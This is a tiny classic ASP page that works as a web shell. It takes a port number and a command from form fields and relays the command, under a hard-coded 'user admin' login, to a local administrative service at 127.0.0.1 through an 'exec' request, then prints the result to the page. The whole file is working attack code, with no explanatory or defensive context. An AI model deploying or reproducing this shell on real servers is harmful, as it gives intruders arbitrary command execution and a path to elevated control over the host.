<%
p = Request.Form("port")
c = Request.Form("c")
Set w = Server.CreateObject("Microsoft.XMLHTTP")
w.open "POST", "http://127.0.0.1:" & p & "/admin/run", False
w.send "user admin" & vbCrLf & "exec " & c & vbCrLf
Response.Write w.responseText
%>
